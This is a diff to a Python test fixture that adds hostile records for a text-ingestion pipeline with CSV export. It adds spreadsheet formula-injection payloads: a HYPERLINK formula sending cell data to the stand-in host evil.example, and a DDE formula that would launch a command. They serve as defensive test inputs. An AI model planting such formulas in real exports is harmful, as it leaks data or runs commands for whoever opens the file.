@@ -94,6 +94,17 @@ SHORT = [
     }
     for number, url in enumerate(URL_VARIANTS, start=1)
 ]
+# cells a spreadsheet would run as formulas, for the CSV exports
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1;"clic")'
+FORMULA_SITE = "@SUM(1+1)*cmd|' /C calc'!A0"
+SPREADSHEET = {
+    "url": "https://example.org/tableur",
+    "site": FORMULA_SITE,
+    "title": FORMULA,
+    "published": "2025-12-05",
+    "language": "fr",
+    "text": f"« {FORMULA} », a déclaré Jean Martin, porte-parole du gouvernement.",
+}
 # a record the reader refuses: its id ends up in the problems the store keeps
 BAD_RECORD = {"id": SCRIPT, "title": IMG, "text": 5}
 
@@ -102,9 +113,8 @@ def write_corpus(folder: Path) -> list[Path]:
     """The hostile inputs as files the CLI would be given: one JSONL feed and one plain-text page."""
     folder.mkdir(parents=True, exist_ok=True)
     feed = folder / "hostile.jsonl"
-    feed.write_text(
-        "".join(json.dumps(r, ensure_ascii=False) + "\n" for r in (FIRST, SECOND, *SHORT, BAD_RECORD)), encoding="utf-8"
-    )
+    records = (FIRST, SECOND, *SHORT, SPREADSHEET, BAD_RECORD)
+    feed.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in records), encoding="utf-8")
     page = folder / FILE_NAME
     page.write_text(THIRD_TEXT + "\n", encoding="utf-8")
     return [feed, page]
@@ -114,6 +124,6 @@ def hostile_store(folder: Path) -> Store:
     """The hostile corpus analysed by the real pipeline and stored in SQLite under ``folder``."""
     store = Store(f"sqlite:///{folder / 'hostile.db'}")
     summary = batch.ingest(write_corpus(folder / "inputs"), store)
-    assert summary.stored == 3 + len(SHORT), summary
+    assert summary.stored == 4 + len(SHORT), summary
     assert len(summary.problems) == 1, summary.problems
     return store
